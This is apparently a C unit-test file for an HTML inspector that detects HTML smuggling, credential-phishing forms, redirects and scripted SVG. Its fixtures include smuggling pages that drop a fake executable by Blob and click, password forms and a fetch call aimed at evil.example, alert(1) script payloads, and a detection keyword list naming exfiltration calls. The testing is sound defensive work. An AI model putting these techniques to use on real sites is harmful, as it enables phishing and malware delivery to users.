#include "dissectors/content/html.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <time.h>

#include <cmocka.h>

#include "dissectors/content/html_script.h"
#include "dissectors/content/inspect_test.h"
#include "sensor/base/text.h"

#define PAGE     "<!DOCTYPE html><html><body>"
#define PE_BYTES 700

/* ---- files to hide ---- */

static void
put_pe(struct buf *b)
{
    static const uint8_t pe[4] = "PE\0";

    buf_put(b, "MZ\x90", 3);
    while (b->n < 0x3c)
        buf_putc(b, 0);
    buf_putc(b, 0x40);
    while (b->n < 0x40)
        buf_putc(b, 0);
    buf_put(b, pe, 4);
    while (b->n < PE_BYTES)
        buf_putc(b, (uint8_t)(b->n * 37));
}

static void
put_zip(struct buf *b)
{
    buf_put(b, "PK\3\4\24\0\0\0\0\0", 10);
    while (b->n < 120)
        buf_putc(b, (uint8_t)b->n);
}

static void
put_png(struct buf *b)
{
    buf_put(b, "\x89PNG\r\n\x1a\n\0\0\0\15IHDR", 16);
    while (b->n < 900)
        buf_putc(b, (uint8_t)(b->n * 11));
}

static void
put_iso(struct buf *b)
{
    for (size_t k = 0; k < 0x8001; k++)
        buf_putc(b, 0);
    buf_str(b, "CD001\1");
    while (b->n < 40000)
        buf_putc(b, 'x');
}

static void
put_form(struct buf *b)
{
    buf_str(b, PAGE "<form action=\"https://evil.example/x\">"
                    "<input type=password></form></body></html>");
}

static void
put_bad_svg(struct buf *b)
{
    buf_str(b, "<svg xmlns=\"http://www.w3.org/2000/svg\">"
               "<script>alert(1)</script></svg>");
}

static void
put_good_svg(struct buf *b)
{
    buf_str(b, "<svg xmlns=\"http://www.w3.org/2000/svg\">"
               "<path d=\"M0 0L10 10\"/></svg>");
}

static const struct {
    const char *word;
    void (*put)(struct buf *b);
} files[] = {
    {"@PE",      put_pe      },
    {"@ZIP",     put_zip     },
    {"@PNG",     put_png     },
    {"@ISO",     put_iso     },
    {"@FORM",    put_form    },
    {"@BADSVG",  put_bad_svg },
    {"@GOODSVG", put_good_svg},
};

/* Letters of a file, by base64, split into strings when `split`. */
static void
put_letters(struct buf *out, void (*put)(struct buf *b), bool split)
{
    struct buf file;
    struct buf text;

    buf_init(&file, 1 << 20);
    buf_init(&text, 1 << 20);
    put(&file);
    text_base64(&text, buf_view(&file));
    for (size_t k = 0; k < text.n; k++) {
        if (split && k > 0 && k % 100 == 0)
            buf_str(out, "' +\n '");
        buf_putc(out, text.p[k]);
    }
    buf_free(&file);
    buf_free(&text);
}

/* @WORD becomes the letters of a file, @@WORD the same in pieces. */
static void
expand(const char *in, struct buf *out)
{
    buf_reset(out);
    while (*in != '\0') {
        const bool split = in[0] == '@' && in[1] == '@';
        size_t k;

        for (k = 0; k < ARRAY_LEN(files); k++)
            if (span_starts(span_str(in + split), span_str(files[k].word)))
                break;
        if (k == ARRAY_LEN(files)) {
            buf_putc(out, (uint8_t)*in++);
            continue;
        }
        put_letters(out, files[k].put, split);
        in += split + strlen(files[k].word);
    }
}

static const struct {
    const char *why;
    const char *in;
    const char *want; /* findings, and the detail of the last */
    const char *detail;
} rows[] = {
    {"nothing in nothing",                                     "",                                                        "",                    NULL          },
    {"a plain page",                                           PAGE "<p>Hello, <b>world</b></p>",                         "",                    NULL          },
    {"a newsletter: pictures, links, tracking, a search form",
     PAGE "<table><tr><td><a href='https://news.example/a?u=%3Cid%3E'>"
          "<img src='data:image/png;base64,@PNG'></a>"
          "<form action='https://news.example/search'><input name=q></form>"
          "<img src='data:image/svg+xml;base64,@GOODSVG'></table>",                                                       "",                    NULL          },
    {"a page that speaks of it",
     PAGE "<p>Use new Blob( and createObjectURL and atob( and click()</p>",                                               "",
     NULL                                                                                                                                                      },

 /* smuggling */
    {"a program in a script",                                  PAGE "<script>var x='@PE';</script>",
     "html_smuggling",                                                                                                                           "pe"          },
    {"in pieces",                                              PAGE "<script>var x='@@PE';</script>",                     "html_smuggling",
     "pe"                                                                                                                                                      },
    {"an archive",                                             PAGE "<script>var x=atob(\"@ZIP\")</script>",
     "html_smuggling",                                                                                                                           "zip"         },
    {"a disk image",                                           PAGE "<script>var x=atob(\"@ISO\")</script>",
     "html_smuggling",                                                                                                                           "iso9660"     },
    {"in a link",                                              PAGE "<a href='data:application/zip;base64,@ZIP'>Invoice",
     "html_smuggling",                                                                                                                           "zip"         },
    {"under the name of a picture",
     PAGE "<img src='data:image/png;base64,@ZIP'>",                                                                       "html_smuggling",      "zip"         },
    {"outside of any script",                                  PAGE "<div hidden id=d>@ZIP</div>",
     "html_smuggling",                                                                                                                           "zip"         },
    {"a picture is none",                                      PAGE "<script>var x='@PNG';</script>",                     "",                    NULL          },

 /* decoders */
    {"a file out of letters that are not known",
     PAGE "<script>b=new Blob([new Uint8Array(d)]);u=URL.createObjectURL(b);"
          "a.download='x.zip';a.click()</script>",                                                                        "html_script_decoder", NULL          },
    {"the same in disguise",
     PAGE "<script>b=new  Blob([new window['Uint8'+'Array'](d)]);"
          "a['down'+'load']='x';a['cl\\x69ck']()</script>",                                                               "html_script_decoder", NULL          },
    {"a download button without letters",
     PAGE "<script>b=new Blob([text]);u=URL.createObjectURL(b);"
          "a.download='x.csv';a.click()</script>",                                                                        "",                    NULL          },
    {"writes what it decodes",
     PAGE "<script>document.write(unescape('"
          "%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72"
          "%69%70%74%3E%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C"
          "%2F%73%63%72%69%70%74%3E%3C%73%63%72%69%70%74%3E%61%6C%65%72%74"
          "%28%31%29%3C%2F%73%63%72%69%70%74%3E%3C%73%63%72%69%70%74%3E%61"
          "%6C%65%72%74%28%31%29%3C%2F%73%63%72%69%70%74%3E%3C%73%63%72%69"
          "%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72%69%70%74%3E%3C"
          "%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72%69"
          "%70%74%3E%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F"
          "%73%63%72%69%70%74%3E%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28"
          "%31%29%3C%2F%73%63%72%69%70%74%3E%3C%73%63%72%69%70%74%3E%61%6C"
          "%65%72%74%28%31%29%3C%2F%73%63%72%69%70%74%3E%3C%73%63%72%69%70"
          "'))</script>",                                                                                                 "html_script_decoder", NULL          },
    {"writes a little",
     PAGE "<script>document.write(unescape('%3Cp%3E'))"
          "</script>",                                                                                                    "",                    NULL          },

 /* forms */
    {"a password to another site",
     PAGE "<form method=post action=\"https://Evil.example/in.php\">"
          "<input type=\"password\" name=p></form>",                                                                      "credential_form",     "evil.example"},
    {"references in the address and the type",
     PAGE "<FORM ACTION='&#104;ttps&colon;//evil.example/'>"
          "<INPUT TYPE='pass&#119;ord'>",                                                                                 "credential_form",     "evil.example"},
    {"without a scheme",
     PAGE "<form action=//evil.example:8080/x>"
          "<input type=password>",                                                                                        "credential_form",     "evil.example"},
    {"by the button",
     PAGE "<form><input type=password>"
          "<button formaction='http://evil.example/'>",                                                                   "credential_form",     "evil.example"},
    {"by the base",
     PAGE "<base href='http://evil.example/'>"
          "<form action=a.php><input type=password>",                                                                     "credential_form",     "evil.example"},
    {"to itself",                                              PAGE "<form action='login.php'><input type=password>",     "",
     NULL                                                                                                                                                      },
    {"without a password",                                     PAGE "<form action='https://a.example/'><input>",          "",
     NULL                                                                                                                                                      },
    {"a script that sends",
     PAGE "<input type=password><script>fetch('https://evil.example/')"
          "</script>",                                                                                                    "credential_form",     NULL          },
    {"a page in letters",                                      PAGE "<script>document.body.x=atob('@FORM')</script>",
     "credential_form",                                                                                                                          "evil.example"},
    {"a page in an attribute",
     PAGE "<iframe srcdoc=\"&lt;html&gt;&lt;form action=&quot;"
          "http://evil.example/&quot;&gt;&lt;input type=password&gt;\">",                                                 "credential_form",     "evil.example"},
    {"a page in escapes",
     PAGE "<script>x='\\x3chtml>\\x3cform action=http://evil.example/ >"
          "\\x3cinput type=password>                               '</script>",                                           "",                    NULL          },
    {"a page in percents",
     PAGE "<script>x='%3Chtml%3E%3Cform action=http://evil.example/ %3E"
          "%3Cinput type=password%3E                               '</script>",                                           "credential_form",     "evil.example"},

 /* redirects */
    {"meta refresh",
     PAGE "<meta http-equiv=refresh content='0; URL=https://evil.example/a'>",
     "html_redirect",                                                                                                                            "evil.example"},
    {"attributes the other way round",
     PAGE "<meta content=\"0;url='http://evil.example'\" http-equiv=Refresh>",
     "html_redirect",                                                                                                                            "evil.example"},
    {"to a neighbour",                                         PAGE "<meta http-equiv=refresh content='0;url=a.html'>",
     "",                                                                                                                                         NULL          },
    {"only again",                                             PAGE "<meta http-equiv=refresh content=30>",               "",                    NULL          },
    {"by script",
     PAGE "<script>window.location.href = 'https://e.example/'"
          "</script>",                                                                                                    "html_redirect",       NULL          },
    {"by a handler",                                           PAGE "<body onload=\"location='https://e.example/'\">",
     "html_redirect",                                                                                                                            NULL          },
    {"compared only",
     PAGE "<script>if(location.href=='https://e.example')"
          "</script>",                                                                                                    "",                    NULL          },

 /* drawings and applications */
    {"script in a drawing",                                    "<svg xmlns='x'><script>1</script></svg>",
     "svg_script",                                                                                                                               "script"      },
    {"handler in a drawing",                                   "<svg onload='alert(1)'></svg>",                           "svg_script",
     "onload"                                                                                                                                                  },
    {"link in a drawing",
     "<svg><a xlink:href='java&#x0a;script:alert(1)'>x</a></svg>",                                                        "svg_script",
     "javascript:"                                                                                                                                             },
    {"markup in a drawing",                                    "<svg><foreignObject><p>x</p></svg>",                      "svg_script",
     "foreignObject"                                                                                                                                           },
    {"a drawing",                                              "<svg><path d='M0 0'/></svg>",                             "",                    NULL          },
    {"a drawing in a page",                                    PAGE "<script>1</script><svg><path/></svg>",               "",
     NULL                                                                                                                                                      },
    {"a drawing in a picture",
     PAGE "<img src='data:image/svg+xml;base64,@BADSVG'>",                                                                "svg_script",
     "script"                                                                                                                                                  },
    {"HTA",                                                    "<html><head><HTA:APPLICATION id=x></head>",               "hta_application",
     NULL                                                                                                                                                      },
};

/* Of the findings of this inspector: their names, and the last. */
static enum finding
list_ours(const struct inspected *t, struct buf *out)
{
    enum finding last = FINDING_COUNT;

    buf_reset(out);
    for (unsigned f = FIND_HTML_SMUGGLING; f <= FIND_HTA_APPLICATION; f++) {
        if (!inspected_has(t, (enum finding)f))
            continue;
        if (out->n > 0)
            buf_putc(out, ' ');
        buf_str(out, finding_name((enum finding)f));
        last = (enum finding)f;
    }
    return last;
}

static void
run_row(struct inspected *t, size_t k, struct buf *in, struct buf *got)
{
    enum finding last;

    expand(rows[k].in, in);
    inspected_run(t, buf_view(in), "");
    last = list_ours(t, got);
    if (!span_eq(buf_view(got), span_str(rows[k].want)))
        fail_msg("%s: %.*s", rows[k].why, (int)got->n, (const char *)got->p);
    if (rows[k].detail != NULL && !inspected_names(t, last, rows[k].detail))
        fail_msg("%s: detail is not %s", rows[k].why, rows[k].detail);
}

static void
test_rows(void **state)
{
    struct inspected t;
    struct buf in;
    struct buf got;

    (void)state;
    inspected_begin(&t);
    buf_init(&in, 1 << 20);
    buf_init(&got, 1 << 12);
    for (size_t k = 0; k < ARRAY_LEN(rows); k++)
        run_row(&t, k, &in, &got);
    buf_free(&in);
    buf_free(&got);
    inspected_end(&t);
}

/* The file that was hidden is there whole, under the name that the script
 * gives it. */
static void
test_payload_is_exact(void **state)
{
    static const char *const pages[] = {
        PAGE "<a download='bill.exe'></a><script>x='@PE'</script>",
        PAGE "<script>x='@@PE';a.download = 'bill.exe'</script>",
        PAGE "<script>x='@@PE';navigator.msSaveOrOpenBlob(b, \"bill.exe\")"
             "</script>",
    };
    struct inspected t;
    struct buf in;

    (void)state;
    inspected_begin(&t);
    buf_init(&in, 1 << 20);
    for (size_t k = 0; k < ARRAY_LEN(pages); k++) {
        struct content_member m = {0};

        expand(pages[k], &in);
        inspected_run(&t, buf_view(&in), "bill.html");
        assert_true(inspected_member(&t, "bill.exe", &m));
        assert_int_equal(m.size, PE_BYTES / 3 * 3 + (PE_BYTES % 3));
        assert_int_equal(m.type, FILETYPE_PE);
        assert_false(m.truncated);
        assert_true(inspected_has(&t, FIND_FORBIDDEN_MEMBER));
    }
    buf_free(&in);
    inspected_end(&t);
}

/* What is harmless in a page is no member of it. */
static void
test_no_members(void **state)
{
    static const char *const pages[] = {
        PAGE "<img src='data:image/svg+xml;base64,@GOODSVG'>",
        PAGE "<img src='data:image/png;base64,@PNG'>",
    };
    struct inspected t;
    struct buf in;

    (void)state;
    inspected_begin(&t);
    buf_init(&in, 1 << 20);
    for (size_t k = 0; k < ARRAY_LEN(pages); k++) {
        expand(pages[k], &in);
        inspected_run(&t, buf_view(&in), "");
        assert_int_equal(t.r.n_members, 0);
    }
    buf_free(&in);
    inspected_end(&t);
}

/* UTF-16 and UTF-32 of both orders say what the narrow page says. */
static void
test_wide(void **state)
{
    static const struct {
        const char *mark;
        size_t n_mark;
        unsigned unit;
        unsigned low;
    } forms[] = {
        {"\xff\xfe",     2, 2, 0},
        {"\xfe\xff",     2, 2, 1},
        {"",             0, 2, 0},
        {"\xff\xfe\0\0", 4, 4, 0},
        {"\0\0\xfe\xff", 4, 4, 3},
    };
    static const char page[] = "<html><form action='http://evil.example/'>"
                               "<input type=password>";
    struct inspected t;
    struct buf in;

    (void)state;
    inspected_begin(&t);
    buf_init(&in, 4096);
    for (size_t k = 0; k < ARRAY_LEN(forms); k++) {
        buf_reset(&in);
        buf_put(&in, forms[k].mark, forms[k].n_mark);
        for (size_t c = 0; c + 1 < sizeof(page); c++)
            for (unsigned b = 0; b < forms[k].unit; b++)
                buf_putc(&in, b == forms[k].low ? (uint8_t)page[c] : 0);
        inspected_run(&t, buf_view(&in), "a.html");
        assert_true(inspected_names(&t, FIND_CREDENTIAL_FORM, "evil.example"));
    }
    buf_free(&in);
    inspected_end(&t);
}

/* Each prefix of each row ends, within its bounds. */
static void
test_cut(void **state)
{
    struct inspected t;
    struct buf in;

    (void)state;
    inspected_begin(&t);
    buf_init(&in, 1 << 20);
    for (size_t k = 0; k < ARRAY_LEN(rows); k++) {
        expand(rows[k].in, &in);
        for (size_t cut = 0; cut <= in.n && cut < 600; cut++)
            inspected_run(&t, span_head(buf_view(&in), cut), "x.html");
    }
    buf_free(&in);
    inspected_end(&t);
}

/* ---- cost ---- */

static const struct {
    const char *why;
    const char *piece;
} costly[] = {
    {"tags that do not end",    "<a "                                                },
    {"quotes that do not end",  "<a x=\""                                            },
    {"scripts that do not end", "<script>"                                           },
    {"handlers",                "<a onx=y>"                                          },
    {"attributes without end",  "a=b "                                               },
    {"percents",                "%3C"                                                },
    {"percents in strings",     "'%3C%3C'"                                           },
    {"references",              "&#x"                                                },
    {"strings that join",       "'AAAA'+"                                            },
    {"quotes",                  "'"                                                  },
    {"download",                "<script>.download</script>"                         },
    {"pages within",            "<iframe srcdoc='&lt;html&gt;'>"                     },
    {"forms",                   "<form action=http://a.example>"                     },
    {"less",                    "<"                                                  },
    {"files that begin",        "'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA',"},
};

/* Twice the bytes take about twice the time; here only that 1 MiB ends soon. */
static void
test_costly(void **state)
{
    struct inspected t;
    struct buf in;

    (void)state;
    inspected_begin(&t);
    buf_init(&in, 1U << 20);
    for (size_t k = 0; k < ARRAY_LEN(costly); k++) {
        const clock_t from = clock();

        buf_reset(&in);
        buf_str(&in, "<html>");
        while (!in.cut)
            buf_str(&in, costly[k].piece);
        inspected_run(&t, buf_view(&in), "x.html");
        if (clock() - from > 20 * CLOCKS_PER_SEC)
            fail_msg("%s: too long", costly[k].why);
    }
    buf_free(&in);
    inspected_end(&t);
}

/* Every word is found, alone and at the edge of the room. */
static void
test_words(void **state)
{
    static const struct {
        const char *text;
        uint32_t want;
    } words[] = {
        {"new Blob(",               HTML_WORD(FILE)    },
        {"new File(",               HTML_WORD(FILE)    },
        {"URL.createObjectURL",     HTML_WORD(FILE)    },
        {"msSaveOrOpenBlob",        HTML_WORD(SAVE)    },
        {"msSaveBlob",              HTML_WORD(SAVE)    },
        {"saveAs(",                 HTML_WORD(SAVE)    },
        {"atob(",                   HTML_WORD(DECODE)  },
        {"unescape(",               HTML_WORD(DECODE)  },
        {"decodeURIComponent(",     HTML_WORD(DECODE)  },
        {"String.fromCharCode",     HTML_WORD(DECODE)  },
        {"Uint8Array",              HTML_WORD(BYTES)   },
        {"charCodeAt",              HTML_WORD(BYTES)   },
        {"document.write(",         HTML_WORD(WRITE)   },
        {"document['wri' + 'te'](", HTML_WORD(WRITE)   },
        {"x.innerHTML = ",          HTML_WORD(WRITE)   },
        {"eval(",                   HTML_WORD(WRITE)   },
        {"new Function(",           HTML_WORD(WRITE)   },
        {"f.srcdoc = ",             HTML_WORD(WRITE)   },
        {"a.download=",             HTML_WORD(DOWNLOAD)},
        {"setAttribute('download'", HTML_WORD(DOWNLOAD)},
        {"a.click()",               HTML_WORD(CLICK)   },
        {"location='http",          HTML_WORD(LEAVES)  },
        {"location.replace('http",  HTML_WORD(LEAVES)  },
        {"location.assign('http",   HTML_WORD(LEAVES)  },
        {"new XMLHttpRequest()",    HTML_WORD(SENDS)   },
        {"fetch('https://",         HTML_WORD(SENDS)   },
        {"navigator.sendBeacon(",   HTML_WORD(SENDS)   },
        {"$.ajax({",                HTML_WORD(SENDS)   },
        {"$.post(",                 HTML_WORD(SENDS)   },
        {"axios.post",              HTML_WORD(SENDS)   },
        {"api.telegram.org",        HTML_WORD(SENDS)   },
        {"at\\x6fb(",               HTML_WORD(DECODE)  },
        {"&#97;tob(",               HTML_WORD(DECODE)  },
        {"'at' + 'ob'(",            HTML_WORD(DECODE)  },
        {"At least a blob of 8",    0                  },
    };
    static const size_t pads[] = {0, 4060, 4070, 4080, 4090, 4095, 4096, 8150};
    struct buf in;

    (void)state;
    buf_init(&in, 16384);
    for (size_t k = 0; k < ARRAY_LEN(words); k++)
        for (size_t p = 0; p < ARRAY_LEN(pads); p++) {
            buf_reset(&in);
            while (in.n < pads[p])
                buf_putc(&in, 'z');
            buf_str(&in, words[k].text);
            if (html_script_words(buf_view(&in)) != words[k].want)
                fail_msg("%s at %zu", words[k].text, pads[p]);
        }
    buf_free(&in);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_rows),
        cmocka_unit_test(test_payload_is_exact),
        cmocka_unit_test(test_wide),
        cmocka_unit_test(test_cut),
        cmocka_unit_test(test_costly),
        cmocka_unit_test(test_words),
        cmocka_unit_test(test_no_members),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
